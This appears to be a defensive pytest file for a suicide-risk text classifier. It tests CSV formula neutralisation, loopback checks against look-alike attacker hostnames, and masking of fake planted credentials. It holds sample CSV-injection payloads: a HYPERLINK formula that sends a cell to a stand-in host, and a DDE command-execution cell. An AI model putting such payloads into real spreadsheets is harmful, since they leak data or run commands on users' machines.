"""Reliability and security, round three: cells a spreadsheet would run, and what "this machine" means."""

from __future__ import annotations

import csv
import io

import pytest

from mentalglm.fileio.atomic import csv_text, read_csv
from mentalglm.network import is_loopback_host
from mentalglm.teacher.client import TeacherError, check_destination, is_loopback

HOSTILE = [
    '=HYPERLINK("http://x.invalid/?q="&D2, "more")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "'",
    "帖子里写道：=这不是公式",
    "plain text",
]


def test_formula_like_cells_are_neutralised_and_read_back_unchanged():
    rows = [{"post": value, "answer": f"{value} again"} for value in HOSTILE]
    text = csv_text(["post", "answer"], rows)
    as_a_spreadsheet_reads_it = list(csv.DictReader(io.StringIO(text, newline="")))
    for cells in as_a_spreadsheet_reads_it:
        for value in cells.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value  # text, never a formula
    fields, back = read_csv(text)
    assert fields == ["post", "answer"] and back == rows


def test_the_expert_sheets_and_the_revision_sheet_hold_no_formula(tmp_path):
    from mentalglm.commands.build_data import SHEET_FIELDS
    from mentalglm.expert.kit import read_csv_rows

    sheet = tmp_path / "revision.csv"
    row = {f: "" for f in SHEET_FIELDS} | {"post": HOSTILE[0], "teacher_answer": HOSTILE[3], "id": "-1"}
    sheet.write_text(csv_text(SHEET_FIELDS, [row]), encoding="utf-8")
    raw = next(csv.DictReader(io.StringIO(sheet.read_text(encoding="utf-8"), newline="")))
    assert raw["post"].startswith("'=") and raw["teacher_answer"].startswith("'@") and raw["id"] == "'-1"
    assert read_csv_rows(sheet)[1] == [row]


@pytest.mark.parametrize(
    "host,local",
    [
        ("127.0.0.1", True),
        ("localhost", True),
        ("LOCALHOST.", True),
        ("::1", True),
        ("[::1]", True),
        ("127.1", True),  # the resolver's short form
        ("2130706433", True),  # 127.0.0.1 as one number
        ("0x7f000001", True),
        ("::ffff:127.0.0.1", True),
        ("127.0.0.1.attacker.invalid", False),  # a name that only starts like loopback
        ("localhost.attacker.invalid", False),
        ("10.0.0.1", False),
        ("0.0.0.0", False),  # every interface
        ("", False),
        (None, False),
    ],
)
def test_this_machine_means_an_address_that_resolves_to_loopback(host, local):
    assert is_loopback_host(host) is local


def test_the_teacher_guard_reads_the_parsed_host():
    class Cfg:
        allow_remote = False
        base_url = "http://127.0.0.1.attacker.invalid:8761/v1"

    assert not is_loopback(Cfg.base_url) and not is_loopback("http://[::1/v1")
    with pytest.raises(TeacherError, match="is not on this machine: the posts would be sent to 127.0.0.1.attacker"):
        check_destination(Cfg)
    Cfg.base_url = "http://127.1:8761/v1"
    check_destination(Cfg)  # loopback in another notation: allowed


def test_a_teacher_url_that_only_looks_local_stops_in_one_line(run_cli):
    proc = run_cli(
        "build_data.py",
        "data=fixtures_label_only",
        "expert_examples=fixtures",
        "teacher.base_url=http://127.0.0.1.attacker.invalid:8761/v1",
        check=False,
    )
    lines = [line for line in proc.stderr.strip().splitlines() if line.strip()]
    assert proc.returncode == 2 and "Traceback" not in proc.stderr, proc.stderr[-2000:]
    assert lines[-1].startswith("error: teacher.base_url=http://127.0.0.1.attacker.invalid:8761/v1 is not on this")


# ----------------------------------------------------------------------------- credentials under any name
PLANTED = {
    "openai_key": "PLANTED-openai-key-under-a-new-name",
    "wandb_key": "0123456789abcdef0123456789abcdef01234567",
    "pasted": "sk-PLANTEDpastedUnderAnyName0123456789",
    "hf": "hf_PLANTEDinAListOfSomething0123",
    "listed": "PLANTED-first-of-two-api-keys",
}


def planted_overrides() -> list[str]:
    return [
        f"+openai_key={PLANTED['openai_key']}",
        f"+wandb_key={PLANTED['wandb_key']}",
        f"+some_setting={PLANTED['pasted']}",
        f"+api_keys=[{PLANTED['listed']},{PLANTED['hf']}]",
    ]


def leaks(texts: dict[str, bytes]) -> list[tuple[str, str]]:
    return [(name, key) for name, data in texts.items() for key, value in PLANTED.items() if value.encode() in data]


def test_credentials_under_any_name_are_in_no_file_and_no_message(run_cli, tmp_path):
    import json

    preds = tmp_path / "p.jsonl"
    rows = [{"task": "sos_hl_1k", "id": "a", "output": "该帖子的发布者有高自杀风险。", "labels": ["高自杀风险"]}]
    preds.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8")
    ok = run_cli("evaluate.py", f"predictions={preds}", *planted_overrides())
    # A failing run: Hydra's own "Error executing job with overrides: [...]" line repeats the command line.
    failed = run_cli("evaluate.py", f"predictions={tmp_path / 'missing.jsonl'}", *planted_overrides(), check=False)
    assert failed.returncode == 2 and "Error executing job with overrides" in failed.stderr
    files = {str(p): p.read_bytes() for p in (tmp_path / "outputs").rglob("*") if p.is_file()}
    assert any("/.hydra/" in name for name in files)
    console = {"stdout": (ok.stdout + failed.stdout).encode(), "stderr": (ok.stderr + failed.stderr).encode()}
    assert not leaks(files) and not leaks(console)


def test_a_key_pasted_as_an_environment_variable_name_is_refused_unechoed(run_cli):
    proc = run_cli(
        "build_data.py",
        "data=fixtures_label_only",
        "expert_examples=fixtures",
        f"teacher.api_key_env={PLANTED['pasted']}",
        "teacher.base_url=http://127.0.0.1:9/v1",
        check=False,
    )
    last = proc.stderr.strip().splitlines()[-1]
    assert proc.returncode == 2 and last.startswith("error: teacher.api_key_env=***: not the name of an environment")
    assert PLANTED["pasted"] not in proc.stderr + proc.stdout


def test_predict_keeps_ids_as_given(tmp_path):
    from omegaconf import OmegaConf

    from mentalglm.commands.predict import read_items

    path = tmp_path / "posts.jsonl"
    path.write_text('{"id": 0, "text": "帖子一"}\n{"id": 1, "text": "帖子二"}\n{"text": "帖子三"}\n', encoding="utf-8")
    cfg = OmegaConf.create({"input": str(path), "task": "sos_hl_1k", "text_field": "text", "id_field": "id"})
    assert [item["id"] for item in read_items(cfg, ["sos_hl_1k"])] == ["0", "1", "3"]  # the third: its row number


def test_a_copy_differing_only_by_invisible_characters_is_a_leak():
    from mentalglm.data.splits import check_leaks

    def record(text: str) -> dict:
        return {"query": text, "post_start": 0, "post_end": len(text)}

    post = "最近总是失眠，ＡＢＣ都不想做"
    copies = [post.replace("失眠", "失\u200b眠"), post.replace("ＡＢＣ", "ABC"), "\ufeff" + post + "\u2060"]
    for copy in copies:
        found = check_leaks("sos_hl_1k", {"train": [record(post)], "test": [record(copy)]})
        assert found == {"train/test": 1}, copy
    assert check_leaks("sos_hl_1k", {"train": [record(post)], "test": [record(post + "。")]}) == {}


def test_a_lone_surrogate_in_a_predictions_file_is_one_error_naming_the_line(run_cli, tmp_path):
    path = tmp_path / "p.jsonl"
    path.write_text(
        '{"task": "sos_hl_1k", "id": "a", "output": "高自杀风险 \\ud83d\\ude00", "labels": ["高自杀风险"]}\n'
        '{"task": "sos_hl_1k", "id": "b", "output": "broken \\ud800 text", "labels": ["高自杀风险"]}\n',
        encoding="utf-8",
    )
    proc = run_cli("evaluate.py", f"predictions={path}", check=False)
    last = proc.stderr.strip().splitlines()[-1]
    assert proc.returncode == 2 and "Traceback" not in proc.stderr, proc.stderr[-2000:]
    assert last.startswith(f"error: {path}:2: a lone surrogate escape"), last


def test_credentials_planted_under_random_names_are_in_no_file_of_the_run(run_cli, tmp_path):
    """Names drawn at random (any prefix, any case, nested or not) ending in a credential word, and values shaped
    like API keys under neutral random names: none of the values is in any file the run writes or on its console."""
    import json
    import random
    import string

    rng = random.Random()
    words = ["key", "token", "secret", "password", "passwd", "credential", "credentials", "auth", "api_key"]

    def word(n: int = 6) -> str:
        return "".join(rng.choice(string.ascii_lowercase) for _ in range(n))

    def value() -> str:
        return "PLANTED" + "".join(rng.choice(string.ascii_letters + string.digits) for _ in range(24))

    planted = {}
    for secret_word in words:
        name = f"{word()}_{secret_word}"
        name = rng.choice([name, name.upper(), name.title()])
        planted[f"+{word()}.{name}" if rng.random() < 0.5 else f"+{name}"] = value()
    planted[f"+{word()}"] = "sk-" + "".join(rng.choice(string.ascii_letters + string.digits) for _ in range(32))
    planted[f"+{word()}"] = "hf_" + "".join(rng.choice(string.ascii_letters + string.digits) for _ in range(30))
    preds = tmp_path / "p.jsonl"
    rows = [{"task": "sos_hl_1k", "id": "a", "output": "该帖子的发布者有高自杀风险。", "labels": ["高自杀风险"]}]
    preds.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8")
    overrides = [f"{k}={v}" for k, v in planted.items()]
    ok = run_cli("evaluate.py", f"predictions={preds}", *overrides)
    failed = run_cli("evaluate.py", f"predictions={tmp_path / 'missing.jsonl'}", *overrides, check=False)
    assert failed.returncode == 2
    texts = {str(p): p.read_bytes() for p in (tmp_path / "outputs").rglob("*") if p.is_file()}
    assert any("/.hydra/" in name for name in texts)  # the command line is saved: the masking is what is tested
    texts["console"] = (ok.stdout + ok.stderr + failed.stdout + failed.stderr).encode()
    found = [(where, k) for where, data in texts.items() for k, v in planted.items() if v.encode() in data]
    assert not found, f"planted credentials found (names: {sorted(planted)}): {found[:5]}"
